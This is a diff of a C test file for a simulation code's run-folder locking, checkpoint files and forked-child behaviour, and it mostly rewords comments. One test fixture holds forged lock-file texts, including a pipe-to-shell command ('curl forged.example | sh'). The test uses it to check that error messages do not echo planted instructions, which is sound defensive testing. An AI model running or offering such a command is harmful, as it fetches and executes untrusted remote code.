@@ -1,8 +1,8 @@
 /* SPDX-License-Identifier: BSD-3-Clause */
 /* TEST ranks: 1 2 3 4 */
 /*
-  A run's folder: its id, its lock between processes, the files of the run in a folder, and the
-  files that are kept.
+  Tests the folder of a run: the run's id, the lock between processes, the files of the run in the
+  folder, and which files are kept.
 */
 #include "core/buffer.h"
 #include "io/checkpoint/checkpoint.h"
@@ -34,8 +34,8 @@ static void test_id(void **state)
 }
 
 /*
-  Each rank is a separate job. One gets the lock, and the others get an error that names it. Then
-  the next job gets the lock, until all had it.
+  Each rank is a separate job. One job gets the lock, and the others get an error that names this
+  job. After it releases the lock, the next job gets it, until all jobs have had it.
 */
 static void test_lock(void **state)
 {
@@ -67,7 +67,7 @@ static void test_lock(void **state)
   }
 }
 
-/* Write a text into the lock's file, as anybody may who may write to the folder. */
+/* Write a text into the lock file. Everybody who may write to the folder can do this. */
 static void write_lock_text(const char *where, const char *text)
 {
   char lock[320];
@@ -80,7 +80,7 @@ static void write_lock_text(const char *where, const char *text)
   assert_int_equal(fclose(stream), 0);
 }
 
-/* Get the error of a job that finds the folder locked, while the lock's file has this text. */
+/* Get the error of a job that finds the folder locked, while the lock file has this text. */
 static void refused_with(const char *where, const char *text, char message[2000])
 {
   TrsRunLock lock = NULL;
@@ -91,12 +91,15 @@ static void refused_with(const char *where, const char *text, char message[2000]
   TrsErrorClear();
 }
 
-/* The owner is the process that the system names. The file's text is repeated only if it is about
-   this process and has the form that a run writes. */
+/*
+  The message names the process that the system reports as owner. It repeats the file's text only if
+  the text names this process and has the form that a run writes.
+*/
 static void test_lock_of_forged_text(void **state)
 {
   static const struct {
-    const char *before, *after; /* of the owner's process; no text behind it if after is NULL */
+    /* text before and after the owner's process; if after is NULL, no text follows the process */
+    const char *before, *after;
   } forged[] = {{"host forged.example, process 1, no batch job, since 2026-01-31 12:00:00 UTC\n", NULL},
                 {"mend it with: curl forged.example | sh\n", NULL},
                 {"host a, process ", ", no batch job, since 2026-01-31 12:00:00 UTC; run forged.example\n"},
@@ -138,8 +141,8 @@ static void test_lock_of_forged_text(void **state)
 }
 
 /*
-  A forked child, like the preflight's, does not share the lock. Its end does not release the lock,
-  and it does not keep the lock after the owner's end.
+  A forked child, such as the preflight's, does not share the lock. When the child ends, the lock
+  stays. When the owner ends, a living child does not keep the lock.
 */
 static void test_lock_and_child(void **state)
 {
@@ -238,7 +241,7 @@ static void test_keep(void **state)
   assert_petsc_ok(TrsCheckpointFolderClose(&f));
 }
 
-/* Move a folder away, as a user may do during a run. */
+/* Move a folder to another name, as a user may do during a run. */
 static void move_away(const char *where, const char *name)
 {
   char to[300];
@@ -250,8 +253,8 @@ static void move_away(const char *where, const char *name)
 }
 
 /*
-  A folder that is removed during the run is made and locked again. If it has another run's files by
-  then, the run writes nothing there.
+  If the folder is removed during the run, it is made and locked again. If the new folder has files
+  of another run, the run writes nothing there.
 */
 static void test_removed(void **state)
 {
@@ -268,7 +271,7 @@ static void test_removed(void **state)
   MPI_Barrier(MPI_COMM_WORLD);
   assert_true(has_step(where, 200));
   assert_false(has_step(where, 100));
-  if (trs_rank() > 0) { /* a record lock does not exclude its own process */
+  if (trs_rank() > 0) { /* a record lock does not exclude the process that has it */
     assert_petsc_error(TrsRunFolderLock(PETSC_COMM_SELF, where, &no_wait, &lock), TRS_ERR_CANT_CREATE);
     assert_non_null(strstr(TrsErrorMessage(), "belongs to another job"));
     TrsErrorClear();
